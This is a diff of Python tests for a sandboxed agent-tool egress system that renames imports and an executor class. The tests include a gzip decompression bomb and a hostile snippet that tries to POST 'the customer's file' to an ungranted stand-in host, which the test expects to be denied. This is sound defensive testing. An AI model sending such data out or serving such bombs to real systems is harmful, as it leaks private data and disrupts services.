@@ -6,15 +6,15 @@ import pytest
 from pydantic import JsonValue
 from pydantic_core import from_json
 
-from contracts.errors import ToolDenied
-from contracts.tools import Grant, ToolInvocation
+from holdfast.contracts.errors import ToolDenied
+from holdfast.contracts.tools import Grant, ToolInvocation
+from holdfast.tools import builtin
+from holdfast.tools.egress.exchange import LARGEST_BODY, request
+from holdfast.tools.sandbox.calls import SandboxExecutor
+from holdfast.tools.sandbox.sandbox import Sandbox
+from holdfast.tools.tool import Tool
 from tests.attacks import hostile
 from tests.attacks.net import ELSEWHERE, PUBLIC, Net, answering
-from tools import builtin
-from tools.egress.exchange import LARGEST_BODY, request
-from tools.sandbox.calls import InSandbox
-from tools.sandbox.sandbox import Sandbox
-from tools.tool import Tool
 
 
 async def test_a_bomb_of_compression(sandbox: Sandbox, invocation: ToolInvocation) -> None:
@@ -25,7 +25,7 @@ async def test_a_bomb_of_compression(sandbox: Sandbox, invocation: ToolInvocatio
     call = invocation.model_copy(
         update={"arguments": arguments, "grant": Grant(hosts=("public.example",))}
     )
-    place = InSandbox(sandbox, net.egress(), None)
+    place = SandboxExecutor(sandbox, net.egress(), None)
     async with net.serving(answering(body=bomb, content_encoding="gzip")):
         direct = await net.egress().ask(request("GET", "http://public.example/"), ("*",))
         said = from_json(await place.run(builtin.http_request, call, lambda _: None))
@@ -40,7 +40,7 @@ async def test_more_than_was_granted(sandbox: Sandbox, invocation: ToolInvocatio
     # RK-14 RK-16
     net = Net(names={"public.example": [[PUBLIC]], "other.example": [[ELSEWHERE]]})
     code = """
-from contracts.errors import ToolError
+from holdfast.contracts.errors import ToolError
 result = [ctx.http("GET", "http://public.example/").text]
 try:
     ctx.http("POST", "http://other.example/", body="the customer's file")
@@ -52,7 +52,9 @@ except ToolError as error:
     )
     async with net.serving(answering()), net.serving(answering(), ELSEWHERE):
         said = from_json(
-            await InSandbox(sandbox, net.egress(), None).run(hostile.run, call, lambda _: None)
+            await SandboxExecutor(sandbox, net.egress(), None).run(
+                hostile.run, call, lambda _: None
+            )
         )
 
     assert said[:2] == ["hello", "permission_denied"]
@@ -104,7 +106,7 @@ async def test_calls_without_the_right_grant(
     call = invocation.model_copy(update={"arguments": arguments, "grant": grant})
 
     with pytest.raises(ToolDenied) as raised:
-        await InSandbox(sandbox, Net().egress(), None).run(tool, call, lambda _: None)
+        await SandboxExecutor(sandbox, Net().egress(), None).run(tool, call, lambda _: None)
 
     assert reason in raised.value.reason
     assert raised.value.next_valid_actions
